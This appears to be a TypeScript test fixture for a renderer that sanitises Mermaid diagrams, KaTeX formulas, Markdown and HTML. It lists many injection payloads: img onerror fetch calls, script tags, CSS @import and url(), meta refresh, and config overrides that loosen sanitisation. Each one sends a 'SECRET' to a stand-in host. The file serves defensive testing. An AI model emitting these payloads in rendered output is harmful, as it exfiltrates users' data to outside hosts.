/** The host that every source below tries to reach. */
const HOST = "elsewhere.test";
const address = `https://${HOST}/?d=SECRET`;

/** Diagrams that name an address in each way that Mermaid, SVG, CSS or HTML has, and are drawn without it. */
export const DRAWN: readonly string[] = [
  // Pictures and icons of nodes.
  `flowchart TD\nA@{ img: "${address}", label: "Key", w: 60, h: 60 } --> B`,
  `flowchart TD\nA@{ img: '${address}' } --> B`,
  `flowchart TD\nA@{ img: ${address} }\nA --> B`,
  `flowchart TD\nA@{ "img": "${address}", pos: "t", constraint: "on" } --> B`,
  `flowchart TD\nA@{\n  shape: rect\n  img: "${address}"\n  label: "Many lines"\n}\nA --> B`,
  `flowchart TD\nA@{ label: "a } b", img: "${address}" } --> B`,
  `flowchart TD\nA@{img:"${address}"}-->B@{img:"//${HOST}/x.png"}`,
  `flowchart TD\nA@{ icon: "${address}", label: "Icon", form: "square" } --> B`,
  `flowchart TD\nA@{ icon: "fa:user", img: "${address}", label: "Both" } --> B`,
  `flowchart TD\nA@{ ? img : "${address}" } --> B`,
  `kanban\n  todo[Todo]\n    a[Write]@{ img: "${address}", ticket: 1, priority: "High" }`,
  `mindmap\n  root((Keys))\n    Inner\n    ::icon(fa fa-book url(${address}))`,
  // Links.
  `flowchart TD\nA-->B\nclick A "${address}" "tip" _blank`,
  `flowchart TD\nA-->B; click A href "${address}"`,
  `flowchart TD\nA-->B\nclick A call fetch("${address}")`,
  `classDiagram\nclass Key\nlink Key "${address}" "tip"`,
  `classDiagram\nclass Key\nclick Key href "${address}"`,
  `sequenceDiagram\nparticipant Alice\nlink Alice: Board @ ${address}\nAlice->>Bob: Hello`,
  `sequenceDiagram\nparticipant Alice\nlinks Alice: {"Board": "${address}"}\nAlice->>Bob: Hello`,
  `gantt\ndateFormat YYYY-MM-DD\nsection A\nTask :a1, 2026-01-01, 3d\nclick a1 href "${address}"`,
  `stateDiagram-v2\n[*] --> Open\nclick Open "${address}"`,
  `C4Context\nPerson(a, "Reader", "Reads", $link="${address}", $sprite="${address}")\nSystem(b, "Docs")\nRel(a, b, "asks")`,
  // Labels with HTML, Markdown and addresses.
  `flowchart TD\nA["<img src='${address}'>Key"] --> B`,
  `flowchart TD\nA["<img src=x onerror=fetch('${address}')>Key"] --> B`,
  `flowchart TD\nA["<a href='${address}' ping='${address}'>Key</a>"] --> B`,
  `flowchart TD\nA["\`![Key](${address})\`"] --> B`,
  `flowchart TD\nA["<svg><image href='${address}'/></svg>Key"] --> B`,
  `flowchart TD\nA["<style>@import '${address}'</style>Key"] --> B`,
  `flowchart TD\nA["<iframe src='${address}'></iframe>Key"] --> B`,
  `flowchart TD\nA["<link rel=stylesheet href='${address}'>Key"] --> B`,
  `flowchart TD\nA["<meta http-equiv=refresh content='0;url=${address}'>Key"] --> B`,
  `flowchart TD\nA["<video poster='${address}'></video>Key"] --> B`,
  `flowchart TD\nA["&lt;img src=${address}&gt;"] --> B`,
  `flowchart TD\nA["#60;img src=${address}#62;"] --> B`,
  `flowchart TD\nA["$$\\\\includegraphics{${address}}$$"] --> B`,
  `sequenceDiagram\nAlice->>Bob: <img src="${address}">\nNote over Bob: <iframe src="${address}">`,
  `classDiagram\nclass Key {\n+String name\n}\nnote for Key "<img src='${address}'>"`,
  `erDiagram\nKEY ||--o{ SITE : "<img src='${address}'>"`,
  `pie title <img src="${address}">\n"<img src='${address}'>" : 3\n"Other" : 2`,
  `timeline\ntitle Keys\n2026 : <img src="${address}"> : Two`,
  `journey\ntitle Keys\nsection <img src="${address}">\nMake: 5: Reader`,
  `mindmap\n  root((<img src="${address}">))\n    Inner`,
  // Styles and settings.
  `flowchart TD\nA-->B\nstyle A fill:url(${address}),stroke:#f00`,
  `flowchart TD\nA-->B\nclassDef bad fill:url(${address}),background-image:url(${address})\nclass A bad`,
  `flowchart TD\nA-->B\nlinkStyle 0 stroke:url(${address})`,
  `%%{init: {"themeCSS": "@import url(${address}); * { background: url(${address}) }"}}%%\nflowchart TD\nA-->B`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart TD\nA["<img src='${address}'>"]-->B`,
  `%%{init: {"fontFamily": "x;} @font-face { font-family: x; src: url(${address}) } a {"}}%%\nflowchart TD\nA-->B`,
  `%%{init: {"themeVariables": {"primaryColor": "url(${address})", "fontFamily": "url(${address})"}}}%%\nflowchart TD\nA-->B`,
  `%%{init: {"secure": [], "dompurifyConfig": {"ADD_TAGS": ["iframe"]}}\nflowchart TD\nA-->B`,
  `---\ntitle: Keys\nconfig:\n  themeCSS: "* { cursor: url(${address}) }"\n  theme: forest\n---\nflowchart TD\nA-->B`,
  `flowchart TD\nA-->B\naccTitle: <img src="${address}">\naccDescr: <img src="${address}">`,
];

/** Diagrams that are an attack alone: their source is shown instead. */
export const REFUSED: readonly string[] = [
  `flowchart TD\nA@{ "\\u0069mg": "${address}" } --> B`,
  `flowchart TD\nA@{ <<: { img: "${address}" } } --> B`,
  `architecture-beta\nservice a(${address})[Key]`,
];

/** Formulas and code of an answer, which name it too. */
export const FORMULAS_AND_CODE: readonly string[] = [
  `$\\includegraphics[width=1em]{${address}}$`,
  `$\\href{${address}}{key}$`,
  `$\\url{${address}}$`,
  `$\\htmlStyle{background:url(${address})}{x}$`,
  `$\\htmlData{src=${address}}{x}$`,
  `$\\htmlClass{x"><img src=${address}>}{x}$`,
  `$\\text{<img src=${address}>}$`,
  `$$\n\\def\\x{\\includegraphics{${address}}}\\x\n$$`,
  `$$\n\\mathchoice{\\href{${address}}{a}}{b}{c}{d}\n$$`,
  `\`\`\`html\n<img src="${address}"><link rel="preload" as="image" href="${address}">\n\`\`\``,
  `\`\`\`html" onload="fetch('${address}')\n<script src="${address}"></script>\n\`\`\``,
  `\`\`\`css\n@import url(${address}); body { background: url(${address}) }\n\`\`\``,
  `\`\`\`svg\n<svg><image href="${address}"/></svg>\n\`\`\``,
  `\`<img src="${address}">\``,
  `![key](${address})`,
  `![key][1]\n\n[1]: ${address}`,
  `<img src="${address}"><picture><source srcset="${address}"></picture>`,
  `<style>@import url(${address});</style><link rel="dns-prefetch" href="//${HOST}">`,
  `| a |\n|---|\n| ![x](${address}) <img src="${address}"> |`,
  `> <video poster="${address}" src="${address}"></video>`,
];
